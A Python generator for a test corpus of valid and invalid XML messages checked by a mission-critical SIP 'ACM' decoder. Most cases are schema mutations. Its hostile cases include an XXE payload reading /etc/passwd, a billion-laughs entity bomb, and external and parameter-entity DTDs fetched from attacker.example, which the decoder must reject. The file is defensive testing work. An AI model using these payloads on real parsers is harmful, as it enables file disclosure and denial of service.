"""Generator of the ACM document corpus: ``tests/acm/corpus/{good,bad}/*.xml`` + ``expected.json``.

Each document is one file; ``expected.json`` gives its verdict:

- ``verdict``: ``"ok"`` or the :mod:`mcacm_sip.acm.errors` class ``decode`` must raise;
- ``status``: the SIP status the error maps to;
- ``path``: the start of the path the error must carry (``null``: none expected);
- ``xsd``: true if the XSD alone decides the verdict, so ``xmllint --schema`` must agree;
- ``same_as``: for good documents, the example flow the document must decode equal to
  (extensions and layout that a receiver ignores).

Most documents are mutations of ``examples/flows`` (every mandatory IE removed in turn,
wrong types, extensions); hostile ones are literal.  Run ``python tests/acm/make_corpus.py``
after changing the examples; ``test_acm_corpus.py`` fails while the files are stale.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from lxml import etree

from mcacm_sip.acm.codec import ACM_NS
from mcacm_sip.acm.examples import example_documents

CORPUS = Path(__file__).parent / "corpus"
NSMAP = {"a": ACM_NS}
EXT = "urn:example:ext:1"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
Mutation = Callable[[etree._Element], None]


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    verdict: str = "ok"
    status: int | None = None
    path: str | None = None
    xsd: bool = False
    same_as: str | None = None
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def folder(self) -> str:
        return "good" if self.verdict == "ok" else "bad"


def _doc(flow: str) -> etree._Element:
    return etree.fromstring(example_documents()[f"{flow}.xml"])


def _mutate(flow: str, *mutations: Mutation) -> bytes:
    root = _doc(flow)
    for mutate in mutations:
        mutate(root)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def remove(xpath: str) -> Mutation:
    def run(root: etree._Element) -> None:
        found = root.xpath(xpath, namespaces=NSMAP)
        assert isinstance(found, list) and found, xpath
        for el in found:
            assert isinstance(el, etree._Element)
            parent = el.getparent()
            assert parent is not None
            parent.remove(el)
    return run


def set_text(xpath: str, text: str) -> Mutation:
    def run(root: etree._Element) -> None:
        for el in root.xpath(xpath, namespaces=NSMAP):  # type: ignore[union-attr]
            el.text = text  # type: ignore[union-attr]
    return run


def set_attr(xpath: str, name: str, value: str) -> Mutation:
    def run(root: etree._Element) -> None:
        for el in root.xpath(xpath, namespaces=NSMAP):  # type: ignore[union-attr]
            el.set(name, value)  # type: ignore[union-attr]
    return run


def append(xpath: str, xml: str, *, index: int | None = None) -> Mutation:
    def run(root: etree._Element) -> None:
        for el in root.xpath(xpath, namespaces=NSMAP):  # type: ignore[union-attr]
            new = etree.fromstring(xml)
            if index is None:
                el.append(new)  # type: ignore[union-attr]
            else:
                el.insert(index, new)  # type: ignore[union-attr]
    return run


def replace(xpath: str, xml: str) -> Mutation:
    def run(root: etree._Element) -> None:
        found = root.xpath(xpath, namespaces=NSMAP)
        assert isinstance(found, list)
        for el in found:
            assert isinstance(el, etree._Element)
            parent = el.getparent()
            assert parent is not None
            parent.replace(el, etree.fromstring(xml))
    return run


def schema_bad(name: str, flow: str, path: str, *mutations: Mutation) -> Case:
    return Case(name, _mutate(flow, *mutations), "SchemaViolation", 400, path, xsd=True)


def content_bad(name: str, flow: str, path: str, *mutations: Mutation) -> Case:
    return Case(name, _mutate(flow, *mutations), "InvalidContent", 400, path, xsd=False)


# Mandatory IEs per flow (tables 10.17.2.15-1 / 10.17.2.16-1, dossier 1.3, model.py):
# the element removed, and the element whose content the removal breaks.
MANDATORY: dict[str, list[tuple[str, str]]] = {
    "profile-update-request": [
        ("a:transaction-id", ""), ("a:requester", ""),
        ("a:requester/a:mc-service-id", "/requester"), ("a:target", ""),
        ("a:migrated-user-id", ""), ("a:profile", ""),
        ("a:profile/*", "/profile"), ("a:migrated-user-id/a:uri", "/migrated-user-id"),
    ],
    "profile-update-response": [
        ("a:transaction-id", ""), ("a:handler", ""), ("a:handler/a:mc-service-id", "/handler"),
        ("a:target", ""), ("a:migrated-user-id", ""), ("a:result", ""),
        ("a:result/a:code", "/result"),
    ],
    "process-indication": [("a:transaction-id", ""), ("a:acms", ""), ("a:request", "")],
    "pending-data-notification": [("a:transaction-id", ""), ("a:user", "")],
    "pending-data-download-request": [("a:transaction-id", ""), ("a:user", "")],
    "pending-data-download-response": [
        ("a:transaction-id", ""), ("a:user", ""), ("a:acm-data", ""),
    ],
    "add-user-configuration-request": [
        ("a:transaction-id", ""), ("a:requester", ""), ("a:user", ""),
    ],
    "add-user-configuration-response": [
        ("a:transaction-id", ""), ("a:handler", ""), ("a:target", ""), ("a:result", ""),
        ("a:user-result[1]/a:primary-id", "/user-result[1]"),
        ("a:user-result[1]/a:result", "/user-result[1]"),
    ],
    "remove-user-configuration-request": [
        ("a:transaction-id", ""), ("a:requester", ""), ("a:user", ""),
    ],
    "remove-user-configuration-response": [
        ("a:transaction-id", ""), ("a:handler", ""), ("a:target", ""), ("a:result", ""),
        ("a:user-result/a:primary-id", "/user-result"), ("a:user-result/a:result", "/user-result"),
    ],
    # 10.17.4: the group membership update request table rows 1, 3/4 (NOTE), 5, 6, 7
    "group-membership-update-request": [
        ("a:transaction-id", ""), ("a:requester", ""),
        ("a:requester/a:mc-service-id", "/requester"), ("a:target", ""), ("a:group-id", ""),
        ("a:user", ""), ("a:operation", ""),
    ],
    # row 3 (the primary user's MC service ID) is M in the response table
    "group-membership-update-response": [
        ("a:transaction-id", ""), ("a:handler", ""), ("a:target", ""),
        ("a:target/a:mc-service-id", "/target"), ("a:group-id", ""), ("a:operation", ""),
        ("a:user", ""), ("a:result", ""),
    ],
    "interconnection-group-provision-request": [
        ("a:transaction-id", ""), ("a:requester", ""), ("a:target", ""), ("a:group-id", ""),
    ],
    "interconnection-group-provision-response": [
        ("a:transaction-id", ""), ("a:handler", ""), ("a:target", ""),
        ("a:target/a:mc-service-id", "/target"), ("a:group-id", ""), ("a:result", ""),
    ],
}


def _slug(xpath: str) -> str:
    return xpath.replace("a:", "").replace("/", ".").replace("[1]", "").replace("*", "root")


def mandatory_cases() -> list[Case]:
    return [
        schema_bad(f"{flow}.missing-{_slug(xpath)}", flow, f"/{flow}{parent}", remove(xpath))
        for flow, rows in MANDATORY.items()
        for xpath, parent in rows
    ]


XENC = (
    '<xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#">'
    "<xenc:CipherData><xenc:CipherValue>q83vEjRWeJA=</xenc:CipherValue></xenc:CipherData>"
    "</xenc:EncryptedData>"
)
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<pending-data-notification xmlns="urn:mcacm-sip:ns:acm:1.0">
 <transaction-id>&lol9;</transaction-id><user><uri>sip:a@x.example</uri></user>
</pending-data-notification>
"""
_NOTIFICATION = (
    '<pending-data-notification xmlns="urn:mcacm-sip:ns:acm:1.0">'
    "<transaction-id>{tid}</transaction-id><user><uri>sip:a@x.example</uri></user>"
    "</pending-data-notification>"
)


def _deep(levels: int) -> str:
    return f'<x:d xmlns:x="{EXT}">' * levels + "</x:d>" * levels


def hostile_cases() -> list[Case]:
    note = _NOTIFICATION.format
    unsafe = "UnsafeDocument"
    return [
        Case("xxe-file", (
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
            + note(tid="&x;")).encode(), unsafe, 400),
        Case("billion-laughs", BILLION_LAUGHS, unsafe, 400),
        Case("external-dtd", (
            '<!DOCTYPE pending-data-notification SYSTEM "http://attacker.example/acm.dtd">'
            + note(tid="t1")).encode(), unsafe, 400),
        Case("parameter-entity", (
            '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
            + note(tid="t1")).encode(), unsafe, 400),
        Case("doctype-after-comment", (
            '<?xml version="1.0" encoding="UTF-8"?>\n<!-- hi -->\n<!DOCTYPE r []>\n'
            + note(tid="t1")).encode(), unsafe, 400),
        Case("undefined-entity", note(tid="&nbsp;").encode(), "MalformedDocument", 400),
        Case("not-well-formed", note(tid="t1").encode()[:-5], "MalformedDocument", 400),
        Case("two-roots", (note(tid="t1") + note(tid="t2")).encode(), "MalformedDocument", 400),
        Case("lowercase-doctype", ("<!doctype r>" + note(tid="t1")).encode(),
             "MalformedDocument", 400),
        Case("too-deep", _mutate(
            "pending-data-notification", append("/a:*", f"<anyExt xmlns='{ACM_NS}'>{_deep(64)}"
                                                "</anyExt>")),
             "DocumentTooDeep", 400, "/pending-data-notification/anyExt/d"),
        Case("not-xml-json", b'{"transaction-id": "t1"}', "NotAcmDocument", 415),
        Case("empty-body", b"", "NotAcmDocument", 415),
        Case("utf-16", note(tid="t1").encode("utf-16"), "NotAcmDocument", 415),
        Case("latin-1-declared", (
            '<?xml version="1.0" encoding="ISO-8859-1"?>' + note(tid="t1")).encode("latin-1"),
             "NotAcmDocument", 415),
        Case("foreign-root", b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@x"/>',
             "NotAcmDocument", 415, "/presence", xsd=True),
        Case("no-namespace", _NOTIFICATION.replace(' xmlns="urn:mcacm-sip:ns:acm:1.0"', "")
             .format(tid="t1").encode(), "NotAcmDocument", 415, "/pending-data-notification",
             xsd=True),
        Case("prefixed-with-bad-id", note(tid="a b").replace("<", "<acm:")
             .replace("<acm:/", "</acm:").replace("xmlns=", "xmlns:acm=").encode(),
             "SchemaViolation", 400,
             "/pending-data-notification/transaction-id", xsd=True),
        Case("unknown-root", f'<profile-update xmlns="{ACM_NS}"/>'.encode(), "SchemaViolation",
             400, "/profile-update", xsd=True),
    ]


def type_cases() -> list[Case]:
    pur, pus, pin = "profile-update-request", "profile-update-response", "process-indication"
    add_req, add_rsp = "add-user-configuration-request", "add-user-configuration-response"
    gur, gus = "group-membership-update-request", "group-membership-update-response"
    gpr = "interconnection-group-provision-request"
    return [
        schema_bad("result-code-unknown", pus, f"/{pus}/result/code",
                   set_text("a:result/a:code", "ok")),
        schema_bad("result-code-bad-extension", pus, f"/{pus}/result/code",
                   set_text("a:result/a:code", "X-Custom")),
        schema_bad("transaction-id-with-space", pus, f"/{pus}/transaction-id",
                   set_text("a:transaction-id", "two words")),
        schema_bad("transaction-id-too-long", pus, f"/{pus}/transaction-id",
                   set_text("a:transaction-id", "t" * 129)),
        schema_bad("uri-not-a-uri", pur, f"/{pur}/migrated-user-id/uri",
                   set_text("a:migrated-user-id/a:uri", "alice at partner")),
        schema_bad("identity-type-unknown", pur, f"/{pur}/migrated-user-id",
                   set_attr("a:migrated-user-id", "type", "Secret")),
        schema_bad("unknown-attribute-without-namespace", pur, f"/{pur}",
                   set_attr("/a:*", "priority", "high")),
        schema_bad("unknown-attribute-in-acm-namespace", pur, f"/{pur}/transaction-id",
                   set_attr("a:transaction-id", f"{{{ACM_NS}}}priority", "high")),
        schema_bad("unknown-attribute-on-free-text", pur, f"/{pur}/additional-info",
                   set_attr("a:additional-info", "lang", "en")),
        schema_bad("attribute-on-simple-element", pur, f"/{pur}/migrated-user-id/uri",
                   set_attr("a:migrated-user-id/a:uri", "lang", "en")),
        schema_bad("additional-info-empty", pur, f"/{pur}/additional-info",
                   set_text("a:additional-info", "")),
        schema_bad("expires-without-zone", pin, f"/{pin}/expires",
                   set_text("a:expires", "2030-05-17T18:00:00")),
        schema_bad("expires-not-a-date", pin, f"/{pin}/expires", set_text("a:expires", "soon")),
        schema_bad("request-not-a-name", pin, f"/{pin}/request",
                   set_text("a:request", "profile update")),
        schema_bad("more-pending-not-a-boolean", "pending-data-download-response",
                   "/pending-data-download-response/more-pending",
                   append("/a:*", f"<more-pending xmlns='{ACM_NS}'>some</more-pending>",
                          index=3)),
        schema_bad("unknown-element-outside-anyext", pur, f"/{pur}/priority",
                   append("/a:*", f"<priority xmlns='{ACM_NS}'>5</priority>", index=5)),
        schema_bad("unqualified-element", pur, f"/{pur}/note",
                   append("/a:*", "<note>hi</note>", index=5)),
        schema_bad("elements-out-of-order", pur, f"/{pur}",
                   remove("a:transaction-id"), append("/a:*", f"<transaction-id xmlns='{ACM_NS}'>"
                                                      "t1</transaction-id>")),
        schema_bad("profile-wrong-namespace", pur, f"/{pur}/profile",
                   replace("a:profile/*", '<mcptt-user-profile xmlns="urn:example:other"/>')),
        schema_bad("two-profiles", pur, f"/{pur}/profile",
                   append("a:profile", '<mcptt-user-profile '
                          'xmlns="urn:3gpp:mcptt:user-profile:1.0"/>')),
        schema_bad("target-both-identities-absent", pur, f"/{pur}/target",
                   remove("a:target/*")),
        schema_bad("target-alias-twice", pur, f"/{pur}/target",
                   append("a:target", f"<functional-alias xmlns='{ACM_NS}'><uri>sip:fa2@x</uri>"
                          "</functional-alias>")),
        schema_bad("duplicate-user", add_req, f"/{add_req}",
                   set_text("a:user/a:uri", "sip:alice@mcptt.primary.example")),
        schema_bad("duplicate-user-result", add_rsp, f"/{add_rsp}",
                   set_text("a:user-result/a:primary-id/a:uri", "sip:alice@mcptt.primary.example")),
        schema_bad("group-operation-unknown", gur, f"/{gur}/operation",
                   set_text("a:operation", "replace")),
        schema_bad("group-urgency-unknown", gur, f"/{gur}/urgency",
                   set_text("a:urgency", "critical")),
        schema_bad("group-update-duplicate-user", gur, f"/{gur}",
                   set_text("a:user/a:uri", "sip:erin@mcptt.partner.example")),
        schema_bad("group-provision-duplicate-group", gpr, f"/{gpr}",
                   set_text("a:group-id/a:uri", "sip:grp-interop-1@mcptt.primary.example")),
        schema_bad("group-update-response-target-alias-only", gus, f"/{gus}/target",
                   remove("a:target/a:mc-service-id")),
        content_bad("success-without-partner-id", add_rsp, f"/{add_rsp}/user-result[1]/partner-id",
                    remove("a:user-result[1]/a:partner-id")),
        content_bad("success-without-profile", add_rsp, f"/{add_rsp}/user-result[1]/profile",
                    remove("a:user-result[1]/a:profile")),
        content_bad("profile-root-not-user-profile", pur, f"/{pur}/profile/mcptt-service-config",
                    replace("a:profile/*", '<mcptt-service-config '
                            'xmlns="urn:3gpp:mcptt:user-profile:1.0"/>')),
        content_bad("identity-encrypted", pur, f"/{pur}/requester/mc-service-id",
                    set_attr("a:requester/a:mc-service-id", "type", "Encrypted"),
                    replace("a:requester/a:mc-service-id/a:uri", XENC)),
        content_bad("identity-without-uri", pur, f"/{pur}/requester/mc-service-id",
                    replace("a:requester/a:mc-service-id/a:uri", XENC)),
        content_bad("transaction-id-invisible-char", pus, f"/{pus}/transaction-id",
                    set_text("a:transaction-id", "t\u200b1")),
        content_bad("expires-year-10000", pin, f"/{pin}/expires",
                    set_text("a:expires", "10000-01-01T00:00:00Z")),
    ]


def good_cases() -> list[Case]:
    pur, pus, pin = "profile-update-request", "profile-update-response", "process-indication"
    ext = f'<x:unknown xmlns:x="{EXT}" x:level="9">ignored<x:deeper/></x:unknown>'
    anyext = f"<anyExt xmlns='{ACM_NS}'>{ext}<later-release-ie>5</later-release-ie></anyExt>"
    cases = [
        Case("unknown-extensions-ignored", _mutate(
            pur,
            append("/a:*", anyext),
            append("/a:*", ext, index=6),
            append("a:requester", anyext),
            append("a:target", ext),
            append("a:profile", anyext),
            set_attr("/a:*", f"{{{EXT}}}unknown", "1"),
            set_attr("a:requester/a:mc-service-id", f"{{{EXT}}}hint", "x"),
            set_attr("a:migrated-user-id", XML_LANG, "en"),
        ), same_as=pur),
        # docs/message-layer.md "Attributes": xml:lang on free text, other namespaces anywhere
        Case("xml-lang-on-free-text", _mutate(
            pur, set_attr("a:additional-info", XML_LANG, "en-GB")), same_as=pur),
        Case("xml-lang-on-result-text", _mutate(
            pus, set_attr("a:result/a:text", XML_LANG, "fi"),
            set_attr("a:result", XML_LANG, "fi")), same_as=pus),
        Case("foreign-attributes-on-every-element", _mutate(
            pur, set_attr("//a:*", f"{{{EXT}}}vendor", "v1"),
            set_attr("//a:*", XML_LANG, "en")), same_as=pur),
        Case("foreign-attributes-in-pending-data", _mutate(
            "pending-data-download-response", set_attr("//a:*", f"{{{EXT}}}vendor", "v1")),
            same_as="pending-data-download-response"),
        Case("unknown-extensions-in-result", _mutate(
            pus, append("a:result", ext), append("a:result", anyext), append("a:handler", ext),
        ), same_as=pus),
        Case("white-space-around-values", _mutate(
            pus, set_text("a:transaction-id", "\n 6f1c1c9e-3a5e-4d0b-9a43-2b7d8a1e0c55\t"),
            set_text("a:handler/a:mc-service-id/a:uri", "  sip:dave@mcptt.partner.example \n"),
            set_text("a:result/a:code", " success "),
        ), same_as=pus),
        Case("prefixed-namespace", etree.tostring(etree.fromstring(
            example_documents()[f"{pus}.xml"].replace(
                b'xmlns="urn:mcacm-sip:ns:acm:1.0"', b'xmlns:acm="urn:mcacm-sip:ns:acm:1.0"'
            ).replace(b"<", b"<acm:").replace(b"<acm:/", b"</acm:").replace(b"<acm:?", b"<?")
        )), same_as=pus),
        Case("comments-and-pis", example_documents()[f"{pur}.xml"]
             .replace(b"<migrated-user-id", b"<!-- note --><?app x?><migrated-user-id")
             .replace(b"</uri>", b"<!-- c --></uri>"), same_as=pur),
        Case("bom-utf8", b"\xef\xbb\xbf" + example_documents()[f"{pin}.xml"], same_as=pin),
        Case("expires-with-offset",
             _mutate(pin, set_text("a:expires", "2030-05-17T23:30:00+05:30")), same_as=pin),
        Case("result-extension-code", _mutate(pus, set_text("a:result/a:code", "x-partner-busy"))),
        Case("optional-ies-absent", _mutate(
            pur, remove("a:additional-info"), remove("a:requester/a:functional-alias"))),
        Case("target-mc-service-id-only", _mutate(
            pus, remove("a:target/a:functional-alias"))),
        Case("process-indication-without-expires", _mutate(pin, remove("a:expires"))),
        Case("add-request-without-target", _mutate(
            "add-user-configuration-request", remove("a:target"))),
        Case("add-response-without-user-results", _mutate(
            "add-user-configuration-response", remove("a:user-result"))),
        Case("download-response-empty", _mutate(
            "pending-data-download-response", remove("a:acm-data/*"))),
        Case("download-response-more-pending", _mutate(  # one page of several
            "pending-data-download-response",
            append("/a:*", f"<more-pending xmlns='{ACM_NS}'>true</more-pending>", index=3))),
        Case("additional-info-cdata", example_documents()[f"{pur}.xml"].replace(
            b"Raise group call priority", b"<![CDATA[Raise <group> call & priority]]>")),
        Case("group-update-extensions-ignored", _mutate(
            "group-membership-update-request", append("/a:*", anyext),
            append("/a:*", ext, index=8), append("a:target", ext),
            set_attr("a:operation", f"{{{EXT}}}vendor", "v1"),
            set_attr("a:urgency", XML_LANG, "en")), same_as="group-membership-update-request"),
        Case("group-update-without-urgency", _mutate(
            "group-membership-update-request", remove("a:urgency"))),
        Case("group-update-white-space-around-operation", _mutate(
            "group-membership-update-response", set_text("a:operation", "\n add ")),
            same_as="group-membership-update-response"),
        Case("group-provision-extensions-ignored", _mutate(
            "interconnection-group-provision-response", append("/a:*", anyext),
            append("a:result", ext)), same_as="interconnection-group-provision-response"),
        Case("download-response-with-group-items", _mutate(
            "pending-data-download-response",
            append("a:acm-data", example_documents()[
                "group-membership-update-request.xml"].split(b"?>", 1)[1].decode()),
            append("a:acm-data", example_documents()[
                "interconnection-group-provision-response.xml"].split(b"?>", 1)[1].decode()))),
        Case("depth-at-limit", _mutate(
            "pending-data-notification", append("/a:*", f"<anyExt xmlns='{ACM_NS}'>{_deep(62)}"
                                                "</anyExt>")), same_as="pending-data-notification"),
    ]
    return cases


def all_cases() -> list[Case]:
    cases = good_cases() + mandatory_cases() + type_cases() + hostile_cases()
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


def manifest(cases: list[Case]) -> dict[str, dict[str, Any]]:
    return {
        f"{c.folder}/{c.name}.xml": {
            "verdict": c.verdict, "status": c.status, "path": c.path, "xsd": c.xsd,
            "same_as": c.same_as,
        }
        for c in cases
    }


def rendered() -> dict[str, bytes]:
    """Relative path -> bytes of every corpus file, including expected.json."""
    cases = all_cases()
    files = {f"{c.folder}/{c.name}.xml": c.data for c in cases}
    files["expected.json"] = (json.dumps(manifest(cases), indent=1, sort_keys=True) + "\n").encode()
    return files


def main() -> int:
    for sub in ("good", "bad"):
        for old in (CORPUS / sub).glob("*.xml"):
            old.unlink()
    for rel, data in rendered().items():
        path = CORPUS / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(f"wrote {len(rendered())} files under {CORPUS}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
